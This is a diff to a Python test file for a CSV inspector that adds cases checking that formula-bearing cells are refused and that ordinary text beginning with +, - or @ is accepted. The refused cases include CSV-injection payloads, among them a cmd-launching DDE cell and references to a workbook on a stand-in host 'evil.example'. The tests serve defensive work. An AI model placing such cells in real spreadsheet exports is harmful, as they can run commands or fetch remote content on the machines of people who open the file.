@@ -191,7 +191,24 @@ def test_a_broken_gzip_wrapper_is_named(inspected: Inspected) -> None:
 
 @pytest.mark.parametrize(
     "cell",
-    ["=1+1", '=HYPERLINK("x")', "@SUM(A1)", "+1+cmd", "-2+3+cmd|' /C calc'!A0", "\t=A1", " =A1"],
+    [
+        *(
+            "=1+1",
+            '=HYPERLINK("x")',
+            "@SUM(A1)",
+            "+1+cmd",
+            "-2+3+cmd|' /C calc'!A0",
+            "\t=A1",
+            " =A1",
+        ),
+        *("=.5+cmd", "={1}"),
+        # Other sheets, and files that a spreadsheet fetches from another machine.
+        *(rf"{sign}'\\evil.example\s\[x.xlsx]S'!A1" for sign in "+-@＋－＠"),
+        *(r"+'C:\x.xls'!A1", "+Sheet2!A1", "+表!A1", "-[1]S!A1", "@S!A:A", "+S1:S3!B2"),
+        *("+A1*2", "-A1*2", "+A1+B1", "+A1&B1", "+$A$1>2", "-(A1*2)", "+A1%*2", "@A1", "@A1:B2"),
+        *("-@SUM(1)", '--IMAGE("x")', '+(IMAGE("x"))', '+A1&IMAGE("x")', '-1-IMAGE("x")'),
+        *('+"a"&B1', '+"a"&IMAGE("x")'),
+    ],
 )
 def test_active_cells_are_refused(inspected: Inspected, cell: str) -> None:
     quoted = cell.replace('"', '""')
@@ -201,10 +218,26 @@ def test_active_cells_are_refused(inspected: Inspected, cell: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "cell", ["-", "-abc", "+86 532 8888 0000", "@someone", "- item (x)", "-5-A", "a=b", "== 注 =="]
+    "cell",
+    [
+        *("-", "-abc", "+86 532 8888 0000", "@someone", "- item (x)", "-5-A", "a=b", "== 注 =="),
+        *("-A1", "-1-B12", "- CO2/CH4 ratio", "- A4/A5 paper", "-NO3-N", "-PM2.5", "-水温(℃)"),
+        *("- 注意!小心", "- [x] Done!", "-'t Hooft 'x'", '-"quoted" text', "@someone see A1"),
+        *(
+            "+86-532-8888-0000",
+            "+1 (555) 010-1234",
+            "+08:00",
+            "-10~5℃",
+            "-3-2-1",
+            "+5%",
+            "...",
+            "+/-",
+        ),
+    ],
 )
 def test_plain_text_is_no_formula(inspected: Inspected, cell: str) -> None:
-    assert inspected(f"id,note\n1,fine\n2,{cell}\n").rows == 2
+    quoted = cell.replace('"', '""')
+    assert inspected(f'id,note\n1,fine\n2,"{quoted}"\n').rows == 2
 
 
 def test_a_fill_value_that_nobody_declared_is_assumed_and_said(inspected: Inspected) -> None:
